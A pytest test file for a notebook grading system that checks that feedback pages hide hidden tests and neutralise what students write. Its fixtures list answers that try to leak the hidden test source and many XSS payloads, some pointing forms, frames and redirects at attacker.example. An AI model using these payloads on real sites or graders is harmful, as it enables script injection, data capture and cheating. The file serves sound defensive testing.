"""What the feedback shows: formulas, and nothing of the hidden tests."""

from __future__ import annotations

import base64
import builtins
import json
import re
from pathlib import Path

import nbformat
import pytest
from axe_playwright_python.sync_playwright import Axe
from bs4 import BeautifulSoup
from hypothesis import given
from hypothesis import strategies as st
from nbclient import NotebookClient
from nbconvert.exporters import HTMLExporter
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output
from nbgrader.server_extensions.formgrader import handlers
from playwright.sync_api import Browser
from traitlets.config import PyFileConfigLoader

from klasteryste.grading import feedback
from klasteryste.grading.boundary import words
from klasteryste.grading.feedback import HideTests
from klasteryste.grading.own import mark_own, note_saved, well_formed
from klasteryste.grading.sanitise import code_html, output_html, plain_text
from klasteryste.language import use_language

PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNk+A8AAQUBAScY42YAAAAASUVORK5CYII="
CONFIG = Path(__file__).parents[2] / "assignments" / "nbgrader_config.py"
HIDDEN = "0.0123456789"  # no time of day has so many digits
TEST = f"""# A test.
### BEGIN HIDDEN TESTS
def check():
    points = 2
    if answer() != {HIDDEN}:
        print("A part is wrong.")
        points -= 1
    print("Never said." if points > 2 else "A wo" "rd.")
    assert answer() != "ACE", "All is wrong."
    return points

check()
### END HIDDEN TESTS"""


def cell(source: str, **role: bool) -> NotebookNode:
    told = {"grade": False, "locked": False, "solution": False, "task": False, "points": 2} | role
    told |= {"schema_version": 3, "grade_id": "task"}
    return new_code_cell(source, metadata={"nbgrader": told})


def hidden(notebook: NotebookNode) -> NotebookNode:
    return HideTests().preprocess(notebook, {})[0]


def graded(answer: str, after: str = "") -> NotebookNode:
    """Run an answer, the test and another answer, and hide the test."""
    cells = [cell(answer, solution=True), cell(TEST, grade=True, locked=True), cell(after, solution=True)]
    notebook = new_notebook(cells=cells)
    NotebookClient(notebook, allow_errors=True, kernel_name="python3").execute()
    return hidden(notebook)


def test_a_test_speaks_for_itself():
    said, points = graded("def answer(): return 0").cells[1].outputs
    assert said.text == "A part is wrong.\nA word.\n"
    assert points.data == {"text/plain": "1"}
    *_, error = graded("def answer(): return 'ACE'").cells[1].outputs
    assert error.traceback == ["All is wrong."]


@pytest.mark.parametrize("language", ["en", "lt"])
@pytest.mark.parametrize(
    ("kind", "sign"),
    [
        ("NotImplementedError", "neparašyta"),
        ("NameError", "Neapibrėžtas"),
        ("ZeroDivisionError", "klaida: ZeroDivisionError."),
        ("Odd", "klaida: Error."),
    ],
)
def test_an_error_whose_text_may_not_be_shown_is_told_in_words(language: str, kind: str, sign: str) -> None:
    notebook = new_notebook(cells=[cell(TEST, grade=True, locked=True)])
    notebook.metadata["klasteryste"] = {"language": language}
    notebook.cells[0].outputs = [new_output("error", ename=kind, evalue=HIDDEN)]
    (error,) = hidden(notebook).cells[0].outputs
    use_language(language)
    assert error.traceback == [words.failure(error.ename, "")]
    assert (sign in error.traceback[0]) == (language == "lt") and HIDDEN not in str(error)


ATTACKS = {
    "printed": "def answer(): print(In[-1]); return 0",
    "to stderr": "import sys\ndef answer(): print(In[-1], file=sys.stderr); return 0",
    "displayed": "from IPython.display import HTML, display\ndef answer(): display(HTML(In[-1])); return 0",
    "raised": "def answer(): raise AssertionError(In[-1])",
    "a kind of error": "def answer(): raise type(In[-1], (Exception,), {})(In[-1])",
    "constants": (
        "import ast\ndef answer():\n"
        "    for node in ast.walk(ast.parse(In[-1])):\n"
        "        if isinstance(node, ast.Constant): print(node.value)\n"
        "    return 0"
    ),
    "a second result": (
        "def answer():\n"
        "    for letter in In[-1]: get_ipython().displayhook(ord(letter))\n"
        "    return 0"
    ),
    "counted": (
        "def answer():\n"
        "    get_ipython().execution_count = int.from_bytes(In[-1].encode())\n"
        "    return 0"
    ),
}  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_answer_can_read_the_test_out(attack):
    notebook = graded(ATTACKS[attack], after="print(*In); raise ValueError(In)")
    assert notebook.cells[0].outputs == notebook.cells[2].outputs == []
    assert notebook.cells[1].execution_count is None
    allowed = {"A part is wrong.", "A word.", "Never said.", "All is wrong."}
    results = 0
    for output in notebook.cells[1].outputs:
        if output.output_type == "stream":
            assert set(output.text.splitlines()) <= allowed
        elif output.output_type == "execute_result":
            results += 1
            assert output.data.keys() == {"text/plain"} and float(output.data["text/plain"]) < 1000
        else:
            assert output.output_type == "error" and len(output.traceback) == 1
            assert hasattr(builtins, output.ename) or output.ename == "Error"
            assert output.evalue in allowed | {""}
            assert output.traceback[0] in allowed | {
                words.failure(output.ename, ""),
                "What this test asks for is not so.",
            }
    assert results <= 1
    assert HIDDEN not in str(notebook) and "ACE" not in str(notebook.cells[1])


def test_the_order_of_what_is_printed_spells_nothing():
    lines = "A word.\nA part is wrong.\nA word.\n"
    test = cell(TEST, grade=True, locked=True)
    test.outputs = [new_output("stream", name="stdout", text=lines)] * 2
    (said,) = hidden(new_notebook(cells=[test])).cells[0].outputs
    assert said.text == "A part is wrong.\nA word.\n"


def test_widgets_leave_no_state():
    notebook = new_notebook(metadata={"widgets": {"state": HIDDEN}})
    assert "widgets" not in hidden(notebook).metadata


def exported(template: str, notebook: NotebookNode, language: str = "en") -> str:
    """Show a notebook by a template as the course configures it."""
    loader = PyFileConfigLoader(CONFIG.name, path=str(CONFIG.parent))
    config = loader.load_config()
    config.HTMLExporter.template_name = template
    config.HTMLExporter.extra_template_paths = [
        str(Path(handlers.__file__).parent / "static" / "node_modules" / "bootstrap" / "dist" / "css")
    ]
    told = {"student": "ona", "score": 1.5, "max_score": 2, "late_penalty": 0, "notebook": "m2"}
    resources = {"nbgrader": told, "metadata": {"name": "m2"}, "index": 0, "total": 1}
    if template == "feedback":
        use_language(language)
        resources["klasteryste"] = feedback.page(notebook, told, language)
        use_language("en")
    return str(HTMLExporter(config=config).from_notebook_node(notebook, resources)[0])


def page(template: str, *texts: str) -> str:
    """Show texts by a template."""
    return exported(template, new_notebook(cells=[new_markdown_cell(text) for text in texts]))


def written(text: str) -> str:
    """Return a text as the page shows it, without the page."""
    return page("basic", text).partition("rendered_html")[2]


@pytest.mark.parametrize("template", ["feedback", "formgrade", "basic"])
def test_formulas_become_mathml_in_every_template(template):
    text = page(template, "Let $p$ be a share.\n\n$$\n\\sqrt{p}\n$$\n\nAnd so on.")
    assert "Let <math" in text and 'display="block"' in text and "<msqrt>" in text
    assert "MathJax" not in text and "\\sqrt" not in text


@pytest.mark.parametrize(
    "text",
    ["\\\\(\\sqrt{p}\\\\)", "\\\\[\\sqrt{p}\\\\]", "\\begin{equation}\n\\sqrt{p}\n\\end{equation}",
     "\\begin{align*}a &= 1\\\\ b &< \\sqrt{p}\\end{align*}"],
)  # fmt: skip
def test_every_way_to_write_a_formula(text):
    assert "<msqrt>" in written(text) and "\\" not in written(text)


@pytest.mark.parametrize(
    ("text", "shown"),
    [("It cost 5 $.", "It cost 5 $."), ("\\$5 and \\$6", "$5 and $6"), ("`$p$`", "<code>$p$</code>"),
     ("~~~\n$p$\n~~~", "$p$"), ("    $p$", "$p$"), ("[a](b$p$c)", 'href="b$p$c"')],
)  # fmt: skip
def test_what_is_no_formula_stays(text, shown):
    assert shown in written(text) and "<math" not in written(text)


@pytest.mark.parametrize(
    "tex",
    ["\\nothinglikethis x", "\\frac", "a\x01b", "\\newcommand{\\a}{x}\\a", "\\def\\a{x}\\a", "{" * 5000],
    ids=["command", "half", "control", "macro", "definition", "deep"],
)
def test_what_cannot_be_converted_is_shown_as_written(tex):
    assert "<math" not in written(f"${tex}$") and f"<code>{tex}</code>" in written(f"${tex}$")


def test_words_in_a_formula_are_words():
    text = written("$\\text{<script>alert(1)</script>} < \\text{&lt;b>}$")
    assert "<math" in text and not re.search("<script|<b>", text)
    assert "<mo>=</mo>" in written("$a = b$")


def test_backticks_do_not_stop_the_page():
    assert "<math" in written("`" * 20_000 + "a" + "`a" * 20_000 + "\n\n$p$")


# What a browser would do something with, and how each is written.
HOSTILE = {
    "script": "<script>alert(1)</script>",
    "handler": "<b onmouseover=alert(1) onfocus='alert(2)' tabindex=1>x</b>",
    "picture": "<img src=x onerror=alert(1)>",
    "remote picture": "<img src='https://attacker.example/p.png'>",
    "address": "<a href='javascript:alert(1)'>x</a>",
    "hidden address": "<a href='java&#10;script:alert(1)'>x</a>",
    "data address": "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "style": "<style>body{background:url(https://attacker.example)}</style>",
    "inline style": "<p style='position:fixed;top:0;background:url(//attacker.example)'>100 of 100</p>",
    "frame": "<iframe src='https://attacker.example'></iframe>",
    "form": "<form action='https://attacker.example'><input name=p><button>OK</button></form>",
    "svg": "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "maths": "<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>",
    "base": "<base href='https://attacker.example'>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://attacker.example'>",
    "comment": "<!-- --!><script>alert(1)</script> -->",
    "broken": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "end": "</div></section></main><script>alert(1)</script>",
    "class": "<p class='label' id='m2-task-1-test'>Test: 9 of 9</p>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "object": "<object data='https://attacker.example'></object><embed src='//attacker.example'>",
}
LINKED = {"md link": "[x](javascript:alert(1))", "md picture": "![x](https://attacker.example/p.png)",
          "md attached": "![x](attachment:none.png)",
          "md mermaid": "```mermaid\n<script>alert(1)</script>\n```",
          "maths link": r"$\href{javascript:alert(1)}{x}$", "maths style": r"$\style{background:red}{x}$",
          "autolink": "<javascript:alert(1)>"}  # fmt: skip


def answer(source: str, *outputs: NotebookNode) -> NotebookNode:
    made = cell(source, solution=True, grade=False)
    made.outputs = list(outputs)
    made.metadata["klasteryste"] = {"own": True}
    return made


def active(text: str) -> list[str]:
    """Return what in a page is active, or would ask another host for something."""
    found = BeautifulSoup(text, "html.parser")
    body = found.body
    problems = [
        str(tag) for tag in found.find_all(["script", "iframe", "object", "embed", "form", "base", "link"])
    ]
    problems += [str(tag) for tag in body.find_all(["style", "svg", "input", "button", "meta"])]
    for tag in body.find_all(True):
        for name, value in tag.attrs.items():
            target = str(value).strip().lower()
            if name.startswith("on") or name == "style" or "attacker" in target or "javascript" in target:
                problems.append(str(tag))
            if name == "src" and not target.startswith(("data:image/png;base64,", "data:image/jpeg;base64,")):
                problems.append(str(tag))
    return problems


@pytest.mark.parametrize("attack", [*HOSTILE, *LINKED])
@pytest.mark.parametrize("place", ["markdown", "html", "plain", "comment", "code", "error"])
def test_nothing_a_student_writes_is_active(place: str, attack: str) -> None:
    text = (HOSTILE | LINKED)[attack]
    table = f"<table><tr><td>{text}</td></tr></table>{text}"
    cells = {
        "markdown": [new_markdown_cell(text)],
        "html": [answer("1", new_output("display_data", {"text/html": table, "image/svg+xml": text}))],
        "plain": [
            answer("1", new_output("execute_result", {"text/plain": text, "application/javascript": text}))
        ],
        "comment": [answer("1")],
        "code": [answer(text)],
        "error": [answer("1", new_output("error", ename=text, evalue=text, traceback=[text]))],
    }[place]
    if place == "comment":
        cells[0].metadata.nbgrader.comment = text
    assert active(exported("feedback", new_notebook(cells=cells))) == []


@pytest.mark.parametrize("attack", HOSTILE)
def test_nothing_a_student_puts_out_is_active_in_formgrader(attack: str) -> None:
    text = HOSTILE[attack]
    data = {
        "text/html": f"<table><tr><td>{text}</td></tr></table>{text}",
        "application/javascript": "alert(1)",
    }
    notebook = new_notebook(cells=[answer("1", new_output("display_data", data)), new_markdown_cell(text)])
    shown = exported("formgrade", notebook)
    for sign in ("alert(1)</script>", "onerror=", "onload=alert", "onmouseover=", "javascript:alert"):
        assert sign not in shown


def test_a_students_own_code_and_outputs_are_shown() -> None:
    table = "<table class='dataframe'><tr><th>šalis</th><td>LT</td></tr></table>"
    frame = f"<div><style scoped>.x{{}}</style>{table}</div>"
    outputs = [
        new_output("stream", name="stdout", text="\x1b[31mraudona\x1b[0m <b>\n"),
        new_output("execute_result", {"text/html": frame, "text/plain": "no"}),
        new_output("display_data", {"image/png": PNG, "text/plain": "<Figure>"}),
        new_output("error", ename="ValueError", evalue="ne", traceback=["\x1b[0;31mValueError\x1b[0m: ne"]),
    ]
    notebook = new_notebook(cells=[answer("x = 'ąčęėįšųūž'  # <i>", *outputs)])
    text = exported("feedback", notebook)
    assert "ąčęėįšųūž" in text and "&lt;i&gt;" in text
    assert "raudona &lt;b&gt;" in text and "<th>šalis</th>" in text and "scoped" not in text
    assert f"data:image/png;base64,{PNG}" in text and 'alt="A picture that the code drew"' in text
    assert "ValueError: ne" in text and active(text) == []


def test_a_picture_that_is_none_is_not_shown() -> None:
    data = {"image/png": base64.b64encode(b"<svg onload=alert(1)>").decode(), "text/plain": "instead"}
    text = exported("feedback", new_notebook(cells=[answer("1", new_output("display_data", data))]))
    assert "instead" in text and "<img" not in text


def test_the_page_is_in_the_students_language_to_the_last_word() -> None:
    test = cell(TEST, grade=True, locked=True, points=2)
    test.metadata.nbgrader |= {"score": 0.5, "points": 2}
    written = answer("pass")
    written.metadata.nbgrader |= {"comment": "No response.", "grade_id": "other"}
    notebook = hidden(new_notebook(cells=[written, test]))
    text = exported("feedback", notebook, "lt")
    assert '<html lang="lt">' in text
    assert re.search(r"0,5 iš 2", text) and "1,5" in text
    said = re.sub(r"<style>.*?</style>|<code>.*?</code>|<[^>]*>", "", text, flags=re.DOTALL)
    english = "Score|Points|Comment|Test|Student|answer|No response|Feedback|Task|Output"
    assert re.findall(rf"\b({english})\b", said) == []


@pytest.mark.parametrize("name", ["NotPlain", "CellTimeoutError", "DeadKernelError"])
def test_an_error_of_ours_says_our_words_and_no_others(name: str) -> None:
    test = cell(TEST, grade=True, locked=True)
    test.outputs = [new_output("error", ename=name, evalue=f"told {HIDDEN}", traceback=[HIDDEN])]
    notebook = new_notebook(cells=[test], metadata={"klasteryste": {"language": "lt"}})
    (error,) = hidden(notebook).cells[0].outputs
    assert error.traceback == [error.evalue] and re.search("[ąčęėįšųūž]", error.evalue)
    assert HIDDEN not in str(error)


def submitted(*outputs: NotebookNode, says: str = "graded") -> NotebookNode:
    """Return a cell as it is once graded, which had other outputs when it was submitted."""
    made = answer("print(12)", new_output("stream", name="stdout", text=says))
    made.metadata["klasteryste"] = {"own": True}  # a student may write anything
    note_saved({"metadata": made.metadata, "outputs": json.loads(json.dumps(outputs))})
    return made


def shown(*cells: NotebookNode, isolated: bool) -> list[str]:
    """Return the texts of what a student is shown."""
    notebook = new_notebook(cells=list(cells), metadata={"klasteryste": {"isolated": isolated}})
    mark_own(notebook)
    return [
        "".join(str(output.get("text", "")) for output in each.outputs) for each in hidden(notebook).cells
    ]


@pytest.mark.parametrize("isolated", [True, False])
def test_after_a_test_only_what_was_saved_is_shown(isolated: bool) -> None:
    saved = new_output("stream", name="stderr", text="saved")
    test = cell(TEST, grade=True, locked=True)
    texts = shown(submitted(saved), test, submitted(saved), submitted(), isolated=isolated)
    assert texts == ["graded" if isolated else "saved", "", "saved", ""]


def test_whether_a_guess_was_right_does_not_show() -> None:
    saved = new_output("stream", name="stdout", text="place 0: 8")
    pages = []
    for says in ("place 0: 8", "place 0: 9"):
        test = cell(TEST, grade=True, locked=True)
        notebook = new_notebook(cells=[test, submitted(saved, says=says)])
        notebook.metadata["klasteryste"] = {"isolated": True}
        mark_own(notebook)
        pages.append(str(hidden(notebook).cells[1].outputs))
    assert pages[0] == pages[1]


KEYS = ["output_type", "text", "name", "data", "text/plain", "text/html", "traceback"]
KINDS = ["stream", "error", "display_data", "other"]
OUTPUTS = st.recursive(
    st.none() | st.integers() | st.text(),
    lambda inner: (
        st.lists(inner)
        | st.dictionaries(st.sampled_from(KEYS), inner)
        | st.builds(
            lambda kind, rest: {"output_type": kind, "text": rest, "data": rest, "traceback": rest},
            st.sampled_from(KINDS),
            inner,
        )
    ),
)


@given(OUTPUTS)
def test_saved_outputs_of_any_shape_are_shown_or_left_out(outputs: object) -> None:
    made = cell("1", solution=True)
    plain = {"metadata": made.metadata, "outputs": outputs}
    note_saved(plain)
    made.outputs = [nbformat.from_dict(output) for output in well_formed(outputs)]
    nbformat.validate(new_notebook(cells=[made]))
    for output in made.outputs:
        assert isinstance(output_html(output, "a", "b"), str)


@pytest.mark.parametrize("letter", ["\u200e", "\u200f", "\u061c", "\u202e", "\u2066", "\x1b", "\x9b"])
def test_what_turns_or_hides_a_text_is_written_out(letter: str) -> None:
    told = letter.encode("unicode_escape").decode()
    for page in (plain_text(f"a{letter}b"), re.sub("<[^>]*>", "", code_html(f"'a{letter}b'"))):
        assert letter not in page and f"a{told}b" in page
    assert plain_text("ąčęėįšųūž „a“ – b\n\tc") == "ąčęėįšųūž „a“ – b\n\tc"


WAITS = {
    "en": ("waits for hand grading", "1.5; the rest waits for hand grading", "1.5 of 2"),
    "lt": ("laukia dėstytojo vertinimo", "1,5; likusi dalis laukia dėstytojo vertinimo", "1,5 iš 2"),
}


@pytest.mark.parametrize("language", ["en", "lt"])
@pytest.mark.parametrize("waits", [True, False])
def test_an_answer_that_no_person_has_read_waits(language: str, waits: bool) -> None:
    letter = new_markdown_cell("Dear editor", metadata={"nbgrader": cell("").metadata.nbgrader})
    letter.metadata.nbgrader |= {"grade": True, "solution": True, "grade_id": "letter", "score": 0.0}
    letter.metadata.nbgrader |= {"waits": waits, "comment": None}
    test = cell(TEST, grade=True, locked=True)
    test.metadata.nbgrader |= {"score": 1.5, "points": 2, "grade_id": "test", "waits": False}
    heading = new_markdown_cell("## One", metadata={"nbgrader": cell("", locked=True).metadata.nbgrader})
    heading.metadata.nbgrader.grade_id = "heading"
    shown = BeautifulSoup(
        exported("feedback", hidden(new_notebook(cells=[letter, heading, test])), language), "html.parser"
    )
    whole, part, given = WAITS[language]
    answered = shown.find(id="letter").find(class_="label").text
    assert answered.endswith(f": {whole}" if waits else given.replace("1.5", "0").replace("1,5", "0"))
    assert shown.find(id="test").find(class_="label").text.endswith(given)
    first, second, total = (row.find(class_="points").text for row in shown.select("nav tr")[1:])
    number = given.split()[0]
    assert (first, second, total) == (whole if waits else "0", number, part if waits else number)


@pytest.mark.browser
@pytest.mark.parametrize("language", ["en", "lt"])
def test_a_browser_finds_no_fault_and_loads_nothing(tmp_path: Path, browser: Browser, language: str) -> None:
    test = cell(TEST, grade=True, locked=True)
    test.metadata.nbgrader |= {"score": 0.5, "points": 2, "grade_id": "m2-test"}
    test.outputs = [new_output("stream", name="stdout", text="A part is wrong.\n")]
    heading = new_markdown_cell("# m2\n\n## One\n\n$p$ and [a link](https://example.org)")
    heading.metadata["nbgrader"] = {"grade_id": "h", "grade": False, "locked": True, "solution": False}
    wide = new_output("display_data", {"text/html": "<table><tr><th>a</th></tr><tr><td>1</td></tr></table>"})
    picture = new_output("display_data", {"image/png": PNG})
    written = answer("import math  # comment\nx = 'text' + f(1)", wide, picture)
    written.metadata.nbgrader |= {"comment": "Well *done*.", "grade_id": "a", "grade": True}
    written.metadata.nbgrader |= {"waits": True, "score": None}
    page = tmp_path / "page.html"
    page.write_text(exported("feedback", hidden(new_notebook(cells=[heading, written, test])), language))
    refused = tmp_path / "refused.html"
    use_language(language)
    refused.write_text(feedback.quarantine_page("m2", "ona", "Why not.", language))
    context = browser.new_context(bypass_csp=True)  # for axe, which is a script
    for path in (page, refused):
        tab = context.new_page()
        asked: list[str] = []
        tab.on("request", lambda request, asked=asked: asked.append(request.url))
        tab.goto(path.as_uri())
        assert [url for url in asked if not url.startswith(("file:", "data:"))] == []
        results = Axe().run(tab)
        assert results.violations_count == 0, results.generate_report()
    context.close()
